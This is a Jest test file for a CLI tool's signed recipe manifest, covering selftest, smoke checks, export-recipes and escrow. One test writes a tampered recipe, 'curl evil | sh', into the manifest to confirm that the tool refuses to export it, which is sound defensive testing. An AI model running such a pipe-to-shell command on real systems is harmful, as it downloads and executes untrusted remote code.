// selftest runs recipes twice in a scratch copy (never the live workspace); check --run-smoke and
// export-recipes go through the signature gate like every path that runs manifest code.
import { afterEach, beforeEach, describe, expect, it } from '@jest/globals'
import fs from 'node:fs'
import path from 'node:path'
import { editAndApprove, hmacHex, ok } from '../../__fixtures__/keys.js'
import {
  makeWorkspace,
  run,
  snapshot,
  write,
  type Workspace
} from '../../__fixtures__/workspace.js'

let ws: Workspace
let opts: Workspace & { env: NodeJS.ProcessEnv }
beforeEach(() => {
  ws = makeWorkspace()
  opts = { ...ws, env: { SWR_HMAC_KEY: hmacHex('selftest') } }
})
afterEach(() => ws.cleanup())

describe('swr selftest', () => {
  it('runs each recipe twice in a scratch copy and leaves the live workspace untouched', async () => {
    write(ws.root, 'gen/out.txt', 'generated\n')
    write(ws.root, 'bin/tool.sh', '#!/bin/sh\necho tool\n', 0o755)
    await ok(
      opts,
      'add',
      'gen/out.txt',
      '--id',
      'gen',
      '--restore',
      'mkdir -p gen && printf "generated\\n" > gen/out.txt && echo run >> "$HOME/runs.log"'
    )
    await ok(opts, 'add', 'bin/tool.sh', '--id', 'tool', '--restore', 'chmod +x bin/tool.sh')
    const before = snapshot(ws.root)
    const r = await run(['selftest', '--json'], opts)
    expect(r.code).toBe(0)
    const out = JSON.parse(r.stdout) as {
      results: { id: string; passed: boolean; runs: string[] }[]
    }
    expect(out.results.map(x => [x.id, x.passed])).toEqual([
      ['tool', true],
      ['gen', true]
    ])
    expect(out.results.every(x => x.runs.length === 2)).toBe(true)
    expect(snapshot(ws.root)).toEqual(before)
    expect(fs.existsSync(path.join(ws.home, 'runs.log'))).toBe(false)
  })

  it('--from-scratch removes the entry first: a chmod-only recipe cannot recreate a file', async () => {
    write(ws.root, 'bin/tool.sh', '#!/bin/sh\necho tool\n', 0o755)
    write(ws.root, 'gen/out.txt', 'generated\n')
    await ok(opts, 'add', 'bin/tool.sh', '--id', 'tool', '--restore', 'chmod +x bin/tool.sh')
    await ok(
      opts,
      'add',
      'gen/out.txt',
      '--id',
      'gen',
      '--restore',
      'mkdir -p gen && printf "generated\\n" > gen/out.txt'
    )
    const r = await run(['selftest', '--from-scratch'], opts)
    expect(r.code).toBe(3)
    expect(r.stdout).toMatch(/FAIL tool/)
    expect(r.stdout).toMatch(/PASS gen/)
    expect(fs.existsSync(path.join(ws.root, 'bin/tool.sh'))).toBe(true)
  })

  it('fails a recipe that is not idempotent (second run breaks the entry): exit 3', async () => {
    write(ws.root, 'log.txt', 'line\n')
    await ok(opts, 'add', 'log.txt', '--id', 'log', '--restore', 'echo line >> log.txt')
    const r = await run(['selftest'], opts)
    expect(r.code).toBe(3)
    expect(r.stdout).toMatch(/FAIL log/)
    expect(r.stdout).toMatch(/run 2: exit 0 .* entry CORRUPT/)
  })

  it('refuses an empty selection unless --allow-empty', async () => {
    write(ws.root, 'a.txt', 'a')
    await ok(opts, 'add', 'a.txt', '--tier', '3', '--restore', 'true')
    expect((await run(['selftest', '--max-tier', '1'], opts)).code).toBe(2)
    expect((await run(['selftest', '--max-tier', '1', '--allow-empty'], opts)).code).toBe(0)
  })

  it('runs nothing for an unsigned manifest', async () => {
    write(ws.root, 'a.txt', 'a')
    await ok(ws, 'add', 'a.txt', '--restore', 'touch "$HOME/../MARKER-selftest"')
    const r = await run(['selftest'], ws)
    expect(r.code).toBe(2)
    expect(r.stderr).toMatch(/refusing to run recipes/)
    expect(fs.existsSync(path.join(ws.base, 'MARKER-selftest'))).toBe(false)
  })
})

describe('swr check --run-smoke', () => {
  it('runs smoke commands of verified entries; a failing smoke is SMOKEFAIL', async () => {
    write(ws.root, 'good.sh', '#!/bin/sh\nexit 0\n', 0o755)
    write(ws.root, 'bad.sh', '#!/bin/sh\nexit 3\n', 0o755)
    await ok(opts, 'add', 'good.sh', '--smoke', './good.sh')
    await ok(opts, 'add', 'bad.sh', '--smoke', './bad.sh')
    const plain = await run(['check', '--json'], opts)
    expect(plain.code).toBe(0)
    const r = await run(['check', '--run-smoke', '--json'], opts)
    expect(r.code).toBe(1)
    const report = JSON.parse(r.stdout)
    expect(report.results.find((f: { id: string }) => f.id === 'bad.sh').status).toBe('SMOKEFAIL')
    expect(report.results.find((f: { id: string }) => f.id === 'good.sh').status).toBe('OK')
    expect(
      report.smoke.results.map((x: { id: string; outcome: string }) => x.outcome).sort()
    ).toEqual(['failed', 'passed'])
  })

  it('never runs a smoke command of an unsigned manifest (exit 2, marker absent)', async () => {
    write(ws.root, 'a.sh', '#!/bin/sh\n', 0o755)
    await ok(ws, 'add', 'a.sh', '--smoke', 'touch SMOKE-RAN')
    const r = await run(['check', '--run-smoke'], ws)
    expect(r.code).toBe(2)
    expect(r.stderr).toMatch(/smoke commands not run/)
    expect(fs.existsSync(path.join(ws.root, 'SMOKE-RAN'))).toBe(false)
  })
})

describe('swr export-recipes', () => {
  it('prints recipes in plan order for a signed manifest, and refuses an altered one', async () => {
    write(ws.root, 'src/a.c', 'a')
    write(ws.root, 'bin/x.sh', '#!/bin/sh\n', 0o755)
    await ok(opts, 'add', 'src', '--id', 'src', '--restore', 'git checkout -- src')
    await ok(
      opts,
      'add',
      'bin/x.sh',
      '--id',
      'x',
      '--needs',
      'src',
      '--tier',
      '1',
      '--restore',
      "chmod +x 'bin/x.sh'"
    )
    const r = await run(['export-recipes'], opts)
    expect(r.code).toBe(0)
    expect(r.stdout.startsWith('#!/usr/bin/env bash\n')).toBe(true)
    expect(r.stdout.indexOf('git checkout -- src')).toBeLessThan(
      r.stdout.indexOf("chmod +x 'bin/x.sh'")
    )
    const manifest = fs.readFileSync(ws.manifestFile, 'utf8')
    fs.writeFileSync(ws.manifestFile, manifest.replace('git checkout -- src', 'curl evil | sh'))
    const refused = await run(['export-recipes'], opts)
    expect(refused.code).toBe(2)
    expect(refused.stdout).not.toContain('curl evil')
  })
})

describe('swr escrow', () => {
  it('escrows small files, re-signs, and refuses bytes that no longer match', async () => {
    write(ws.root, 'conf/app.ini', 'key=value\n')
    write(ws.root, 'big.bin', Buffer.alloc(300 * 1024, 1))
    await ok(opts, 'add', 'conf/app.ini', '--id', 'conf')
    await ok(opts, 'add', 'big.bin', '--id', 'big')
    const r = await run(['escrow', '--json'], opts)
    expect(r.code).toBe(0)
    const out = JSON.parse(r.stdout) as {
      escrowed: string[]
      skipped: { id: string; why: string }[]
      signed: boolean
    }
    expect(out.escrowed).toEqual(['conf'])
    expect(out.skipped.map(s => s.id)).toEqual(['big'])
    expect(out.signed).toBe(true)
    fs.writeFileSync(path.join(ws.root, 'conf/app.ini'), 'key=evil!\n')
    await editAndApprove({ ...opts, manifestFile: ws.manifestFile }, doc => {
      const e = doc.body.entries.find(x => x.id === 'conf') as { escrow?: unknown }
      delete e.escrow
    })
    const again = await run(['escrow', '--only', 'conf'], opts)
    expect(again.code).toBe(2)
    expect(again.stderr).toMatch(/does not match its recorded sha256/)
  })
})
